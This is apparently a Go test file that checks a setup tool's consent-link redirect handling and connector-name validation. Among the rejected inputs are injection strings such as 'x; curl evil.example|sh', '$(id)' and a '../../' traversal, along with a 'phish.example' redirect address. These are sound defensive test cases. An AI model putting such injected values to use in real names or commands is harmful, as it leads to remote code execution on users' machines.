package setup

import (
	"strings"
	"testing"

	"gatehouse/setup/definition"
	"gatehouse/setup/entra"
	"gatehouse/setup/plan"
	"gatehouse/setup/tenant"
)

// signedIn is a session that reads nothing: for what is decided on what was read already.
func signedIn(defs ...*definition.Definition) *Session {
	me := entra.Identity{Tenant: entra.Tenant{ID: fileTenant}}
	return &Session{house: &House{cfg: Config{Endpoint: tenant.Endpoint{}}, defs: defs}, me: me}
}

// Somebody may add a reply address to an app: the approver ended on that page, and the link was given while the gate was closed.
func TestTheConsentLinkIsGivenOnlyForAnApprovedPreviewAndEndsWhereTheDefinitionSays(t *testing.T) {
	const own, added = "https://vendor.example/done", "https://phish.example/"
	for name, c := range map[string]struct {
		live    []string
		current bool
		enabled bool
		link    bool
		note    string
	}{
		"approved and on":            {[]string{own}, true, true, true, own},
		"an added address is first":  {[]string{added, own}, true, true, true, own},
		"only an added address":      {[]string{added}, true, true, false, "somebody added"},
		"no address":                 {nil, true, true, false, "AADSTS500113"},
		"not approved":               {[]string{own}, false, true, false, "approved"},
		"approved, sign-in is off":   {[]string{own}, true, false, false, "sign-in is on"},
		"not approved, and it is on": {[]string{added, own}, false, true, false, "approved"},
	} {
		d := &definition.Definition{ID: "vendor", App: definition.App{RedirectURIs: []string{own}}}
		w := signedIn(d).ways(View{
			Target: Target{Definition: d}, Current: c.current,
			Live: entra.Connector{App: &entra.Application{AppID: fileClient, WebRedirectURIs: c.live}, Principal: &entra.ServicePrincipal{ObjectID: filePrincipal, Enabled: c.enabled}},
		})
		if (w.Link != "") != c.link || !strings.Contains(w.Note, c.note) || w.Portal == "" {
			t.Errorf("%s: %+v", name, w)
		}
		if strings.Contains(w.Link+w.Note, "phish") {
			t.Errorf("%s: the approver is led to the added page: %+v", name, w)
		}
	}
}

// The instance of a connector in the list stands in commands that people copy into a shell.
func TestAUniqueNameThatGatehouseWouldNotWriteIsNoConnector(t *testing.T) {
	d := &definition.Definition{ID: "snow-atlas"}
	s := signedIn(d)
	for name, listed := range map[string]bool{
		"gatehouse-snow-atlas-europe":                     true,
		"gatehouse-snow-atlas-x; curl evil.example|sh":    false,
		"gatehouse-snow-atlas-$(id)":                      false,
		"gatehouse-snow-atlas-../../europe":               false,
		"gatehouse-snow-atlas-Europe":                     false,
		"gatehouse-snow-atlas-":                           false,
		"gatehouse-snow-atlas":                            false,
		"gatehouse-snow-atlas-" + strings.Repeat("e", 40): false,
	} {
		if _, ok := instanceIn(name, d); ok != listed {
			t.Errorf("%q: %v", name, ok)
		}
		live := entra.Connector{App: &entra.Application{UniqueName: name, Tags: []string{plan.Tag, plan.DefinitionTag("snow-atlas", 1)}}}
		if listed {
			continue // its choices are read from the state folder
		}
		if target, ok := s.targetOf(live); ok {
			t.Errorf("%q is listed as %s", name, target.CommandArgs())
		}
	}
}
